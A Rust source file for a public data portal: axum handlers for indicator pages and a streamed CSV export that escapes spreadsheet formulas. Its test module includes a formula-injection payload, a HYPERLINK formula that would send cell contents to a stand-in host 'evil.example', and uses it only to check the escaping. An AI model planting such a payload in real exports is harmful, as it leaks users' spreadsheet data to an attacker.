//! 公开: the public portal, without login. It shows only approved values of published indicators
//! in published years (the store's public evaluation and the same filter as the anonymous JSON
//! API), with charts and their data tables, the methodology, and CSV downloads.

use askama::Template;
use axum::extract::{Path, Query, State};
use axum::http::StatusCode;
use axum::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};
use ecociv_app::{Caller, DataValue, Publication, WorkflowStatus};
use ecociv_core::{Status, ValueKind};
use ecociv_i18n::{Msg, Words};

use super::indicators::{HistoryRow, MethodView, annual_series, assessment, chart_of, methodology};
use super::{
    Choice, Ctx, Layout, PageError, Section, StatusView, fmt_result, fmt_value, non_empty, render,
};
use crate::error::ApiError;
use crate::state::AppState;

/// A published year from the query, or the latest; `Err` when the year is not published.
fn published_year(years: &[i32], text: Option<&str>) -> Result<Option<i32>, PageError> {
    match text {
        Some(y) => Ok(Some(
            y.parse::<i32>()
                .ok()
                .filter(|y| years.contains(y))
                .ok_or_else(|| {
                    ApiError::not_found(Msg::NotPublished {
                        year: y.parse().unwrap_or(0),
                        range: years.first().copied().zip(years.last().copied()),
                    })
                })?,
        )),
        None => Ok(years.last().copied()),
    }
}

fn published(p: &Publication, code: &str) -> bool {
    p.indicators.contains(code)
}

#[derive(Debug, Default, serde::Deserialize)]
pub struct PublicQuery {
    year: Option<String>,
    region: Option<String>,
    indicator: Option<String>,
}

#[derive(Debug)]
struct PublicRow {
    name: String,
    href: String,
    area: String,
    value: String,
    status: StatusView,
    national: String,
    binding: Option<bool>,
}

#[derive(Debug)]
struct AreaRow {
    name: String,
    counts: Vec<usize>,
}

#[derive(Template)]
#[template(path = "public.html")]
struct PublicPage {
    page: Layout,
    year: Option<i32>,
    years: Vec<Choice>,
    city: String,
    summary: String,
    tiles: Vec<(StatusView, usize)>,
    statuses: Vec<StatusView>,
    areas: Vec<AreaRow>,
    chart: String,
    rows: Vec<PublicRow>,
}

const SHOWN: [Status; 4] = [Status::Met, Status::AtRisk, Status::NotMet, Status::NoData];

pub async fn index(
    State(state): State<AppState>,
    ctx: Ctx,
    Query(q): Query<PublicQuery>,
) -> Result<Response, PageError> {
    let model = state.app.model().await?;
    let plan = &model.plan;
    let publication = state.app.publication().await?;
    let years_published = state.app.published_years().await?;
    let t = ctx.t();
    let lang = ctx.lang;
    let year = published_year(&years_published, non_empty(&q.year))?;
    let page = Layout::new(&state, &ctx, Section::Public, t.pub_title).await?;
    let years = years_published
        .iter()
        .rev()
        .map(|y| Choice::new(y.to_string(), y.to_string(), Some(*y) == year))
        .collect();
    let Some(year) = year else {
        return Ok(render(
            StatusCode::OK,
            &PublicPage {
                page,
                year: None,
                years,
                city: plan.city_region().name.clone(),
                summary: String::new(),
                tiles: Vec::new(),
                statuses: Vec::new(),
                areas: Vec::new(),
                chart: String::new(),
                rows: Vec::new(),
            },
        ));
    };
    let snap = state
        .app
        .evaluation(&Caller::anonymous(), year, None, Some(&plan.city))
        .await?;
    let e = &snap.evaluation;
    let rows: Vec<PublicRow> = e
        .results
        .iter()
        .filter(|r| r.region == plan.city && published(&publication, &r.indicator))
        .map(|r| PublicRow {
            name: r.name.clone(),
            href: format!("/public/indicators/{}?year={year}", r.indicator),
            area: r.area.map(|a| a.word(lang)).unwrap_or("").to_owned(),
            value: fmt_result(plan, r, lang),
            status: StatusView::new(r.status, lang),
            national: r
                .national
                .as_ref()
                .map(|n| n.text.clone())
                .unwrap_or_default(),
            binding: r.national.as_ref().map(|n| n.binding),
        })
        .collect();
    let areas: Vec<AreaRow> = e
        .readiness
        .by_area
        .iter()
        .map(|a| AreaRow {
            name: a.area.word(lang).to_owned(),
            counts: SHOWN.iter().map(|s| a.counts.get(*s)).collect(),
        })
        .collect();
    let chart =
        super::dashboard::area_chart("public-areas", year, &e.readiness.by_area, &SHOWN, lang);
    Ok(render(
        StatusCode::OK,
        &PublicPage {
            page,
            year: Some(year),
            years,
            city: plan.city_region().name.clone(),
            summary: e.readiness.message().text(lang),
            tiles: SHOWN
                .iter()
                .map(|s| (StatusView::new(*s, lang), e.readiness.binding.get(*s)))
                .collect(),
            statuses: SHOWN.iter().map(|s| StatusView::new(*s, lang)).collect(),
            areas,
            chart,
            rows,
        },
    ))
}

#[derive(Template)]
#[template(path = "public_indicator.html")]
struct PublicIndicatorPage {
    page: Layout,
    name: String,
    code: String,
    year: i32,
    region: String,
    regions: Vec<Choice>,
    assessment: super::indicators::Assessment,
    chart: String,
    chart_desc: String,
    history: Vec<HistoryRow>,
    target_label: String,
    national_label: String,
    method: MethodView,
}

pub async fn indicator(
    State(state): State<AppState>,
    ctx: Ctx,
    Path(code): Path<String>,
    Query(q): Query<PublicQuery>,
) -> Result<Response, PageError> {
    let model = state.app.model().await?;
    let plan = &model.plan;
    let publication = state.app.publication().await?;
    let years = state.app.published_years().await?;
    let not_published = || ApiError::not_found(Msg::IndicatorNotPublished { code: code.clone() });
    let ind = plan
        .indicator(&code)
        .filter(|i| published(&publication, &i.code))
        .ok_or_else(not_published)?;
    let year = published_year(&years, non_empty(&q.year))?.ok_or_else(not_published)?;
    let region = match non_empty(&q.region) {
        Some(r) => plan.region(r).ok_or_else(|| {
            ApiError::invalid("region", Msg::UnknownRegion { code: r.to_owned() })
        })?,
        None => plan.city_region(),
    };
    let snap = state
        .app
        .evaluation(&Caller::anonymous(), year, None, Some(&region.code))
        .await?;
    let result = snap
        .evaluation
        .results
        .iter()
        .find(|r| r.indicator == ind.code && r.region == region.code);
    let all = state.app.public_values(Some(&ind.code), true).await?;
    let refs: Vec<&DataValue> = all.iter().filter(|v| v.region == region.code).collect();
    let series = annual_series(&refs, year);
    let (chart, chart_desc, target_label, national_label) =
        chart_of(plan, ind, result, &series, ctx.lang);
    let yes_no = ind.kind == ValueKind::YesNo;
    let history = series
        .iter()
        .map(|(y, v, _)| HistoryRow {
            year: *y,
            value: fmt_value(Some(*v), ind.unit.as_str(), yes_no, ctx.lang),
            state: WorkflowStatus::Approved.word(ctx.lang).to_owned(),
        })
        .collect();
    let regions = super::indicators::regions_with_values(
        plan,
        all.iter().map(|v| v.region.as_str()),
        &region.code,
    );
    let page = Layout::new(&state, &ctx, Section::Public, ind.name.clone()).await?;
    Ok(render(
        StatusCode::OK,
        &PublicIndicatorPage {
            page,
            name: ind.name.clone(),
            code: ind.code.clone(),
            year,
            region: region.name.clone(),
            regions,
            assessment: assessment(plan, result, ctx.lang),
            chart,
            chart_desc,
            history,
            target_label,
            national_label,
            method: methodology(&model, ind, ctx.lang, ctx.t()),
        },
    ))
}

/// A CSV field: safe from formula injection ([`ecociv_core::csv_cell::safe`]: a leading `'`
/// before `=`, `+`, `-`, `@`, tab or CR unless it is a plain number), then quoted when it needs
/// to be (RFC 4180).
fn csv_field(s: &str) -> String {
    let s = ecociv_core::csv_cell::safe(s);
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// `GET /public/data.csv[?indicator=code]`: published approved values, UTF-8 with a byte order
/// mark so that spreadsheet programs read the Chinese names correctly.
///
/// The file is streamed: values are read [`CSV_CHUNK`] at a time and each chunk is sent as it is
/// written, so a province's download neither waits for nor holds every value at once. A read that
/// fails half-way aborts the response (the client sees a broken download, never a file that looks
/// complete but is not).
pub async fn csv(
    State(state): State<AppState>,
    Query(q): Query<PublicQuery>,
) -> Result<Response, PageError> {
    let model = state.app.model().await?;
    let indicator = non_empty(&q.indicator).map(str::to_owned);
    if let Some(code) = indicator.as_deref()
        && !published(&state.app.publication().await?, code)
    {
        return Err(ApiError::not_found(Msg::IndicatorNotPublished {
            code: code.to_owned(),
        }));
    }
    // The first chunk is read before the response starts, so an error there is still a proper
    // error page.
    let first = state
        .app
        .public_values_page(indicator.as_deref(), None, CSV_CHUNK)
        .await?;
    let name = match indicator.as_deref() {
        Some(code) => format!("ecociv-{code}.csv"),
        None => "ecociv-public-data.csv".into(),
    };
    let (mut tx, body) = http_body_util::channel::Channel::<bytes::Bytes, std::io::Error>::new(2);
    tokio::spawn(async move {
        let plan = &model.plan;
        let mut out = String::from(
            "\u{feff}indicator,indicator_name,region,region_name,period,value,unit,source\r\n",
        );
        let (mut values, mut next) = first;
        loop {
            for v in &values {
                csv_row(&mut out, plan, v);
            }
            if tx
                .send_data(bytes::Bytes::from(std::mem::take(&mut out)))
                .await
                .is_err()
            {
                return; // the client went away
            }
            let Some(after) = next else { break };
            match state
                .app
                .public_values_page(indicator.as_deref(), Some(after), CSV_CHUNK)
                .await
            {
                Ok(page) => (values, next) = page,
                Err(e) => {
                    tracing::warn!("public data.csv aborted after row {after}: {e}");
                    tx.abort(std::io::Error::other(e.to_string()));
                    return;
                }
            }
        }
    });
    Ok((
        [
            (CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}\""),
            ),
            (CACHE_CONTROL, "public, no-cache".to_owned()),
        ],
        axum::body::Body::new(body),
    )
        .into_response())
}

/// Values per chunk of a streamed download.
const CSV_CHUNK: usize = 1000;

/// One value as a line of `data.csv`.
fn csv_row(out: &mut String, plan: &ecociv_core::Plan, v: &DataValue) {
    let ind = plan.indicator(&v.indicator);
    let region = plan
        .region(&v.region)
        .map(|r| r.name.as_str())
        .unwrap_or("");
    let value = if ind.is_some_and(|i| i.kind == ValueKind::YesNo) {
        if v.value == "1" { "是" } else { "否" }
    } else {
        v.value.as_str()
    };
    let fields = [
        v.indicator.as_str(),
        ind.map(|i| i.name.as_str()).unwrap_or(""),
        v.region.as_str(),
        region,
        v.period.as_str(),
        value,
        ind.map(|i| i.unit.as_str()).unwrap_or(""),
        v.provenance_detail.as_str(),
    ];
    for (n, f) in fields.iter().enumerate() {
        if n > 0 {
            out.push(',');
        }
        out.push_str(&csv_field(f));
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_with_commas_or_quotes_are_quoted() {
        assert_eq!(csv_field("93.1"), "93.1");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("说\"明"), "\"说\"\"明\"");
    }

    #[test]
    fn csv_fields_never_start_a_formula() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2&C2,\"\"x\"\")\""
        );
        assert_eq!(csv_field("@x"), "'@x");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        assert_eq!(csv_field("-3.5"), "-3.5");
    }
}
